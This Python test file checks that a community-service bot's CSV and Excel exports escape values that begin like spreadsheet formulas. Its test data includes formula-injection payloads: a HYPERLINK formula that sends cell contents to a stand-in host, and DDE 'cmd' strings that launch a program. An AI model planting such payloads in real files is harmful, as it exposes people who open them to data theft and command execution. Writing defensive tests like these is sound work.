"""Exports are inert: a name or entry that starts like a formula is text in every file we write
(tickets .csv/.xlsx, roster .csv/.xlsx, 附件5, 附件6), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.demo_roster import demo_roster
from bot.export import write_export
from bot.forms.inert import csv_value, dangerous
from bot.forms.monthly import MonthlyForm, write_monthly
from bot.forms.projects import CadreProjects, ProjectRow, write_projects
from bot.roster import read_roster, write_roster
from storage.export_store import EXPORT_FIELDS, ticket_rows
from tests.conftest import TZ, Harness, local

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_escaped_for_csv(value: str) -> None:
    assert dangerous(value)
    assert csv_value(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, 0, "-3", "+2.5", "1e3", "王阿姨", "3号楼-501", None, True])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert csv_value(value) == value


async def test_tickets_export_keeps_a_display_name_that_looks_like_a_formula_as_text(
        harness: Harness, tmp_path: Path) -> None:
    harness.clock.set(local(2026, 11, 3, 9, 0))
    await harness.say("resident-x", "5号楼楼道灯坏了好几天了", chat="demo-gulou-1", user_name=FORMULAS[0])
    async with harness.app.db.session() as session:
        out = io.StringIO()
        await write_export(ticket_rows(session), "csv", TZ, out=out)
        xlsx = tmp_path / "tickets.xlsx"
        await write_export(ticket_rows(session), "xlsx", TZ, path=xlsx)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["reporter"] == "'" + FORMULAS[0]
    sheet = load_workbook(xlsx)["tickets"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["reporter"].value == FORMULAS[0] and cells["reporter"].data_type == "s"
    assert cells["reporter"].quotePrefix
    assert cells["duplicate_count"].value == 0 and cells["duplicate_count"].data_type == "n"
    assert header == [*EXPORT_FIELDS, "thumbnail"]


@pytest.mark.parametrize("suffix", ["", ".xlsx"])
def test_roster_export_is_inert_and_reads_back_the_same(tmp_path: Path, suffix: str) -> None:
    roster = demo_roster()
    people = [replace(p, name="@" + p.name) if p.role == "cadre" else p for p in roster.people]
    roster = replace(roster, people=people)
    path = tmp_path / f"roster{suffix}"
    write_roster(roster, path)
    if suffix:
        sheet = load_workbook(path)["people"]
        names = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in names)
        assert any(c.value.startswith("@") and c.quotePrefix for c in names)
    else:
        text = (path / "people.csv").read_text(encoding="utf-8")
        assert ",'@" in text and ",@" not in text
    assert read_roster(path) == roster


def test_monthly_form_and_projects_keep_entries_as_text(tmp_path: Path) -> None:
    form = MonthlyForm("五马街道", "鼓楼社区", "=cmd|' /C calc'!A0", 2026, 11,
                       values={"other_work": "-1+1", "hours": 80})
    book = load_workbook(write_monthly(form, tmp_path / "m.xlsx"))
    cells = [c for row in book["附件5"].iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(c.data_type == "f" for row in book["附件5"].iter_rows() for c in row)
    assert any(c.value == "-1+1" and c.quotePrefix for c in cells)
    data = {row[0].value: row[2] for row in book["数据"].iter_rows(min_row=2)}
    assert data["other_work"].data_type == "s" and data["hours"].value == 80 and data["hours"].data_type == "n"

    projects = [CadreProjects("鼓楼社区", "@林晓", None, (ProjectRow(1, "+SUM(1)", True, "=1", None),))]
    sheet = load_workbook(write_projects(2026, projects, tmp_path / "p.xlsx")).active
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert any(c.value == "+SUM(1)" and c.quotePrefix for row in sheet.iter_rows() for c in row)
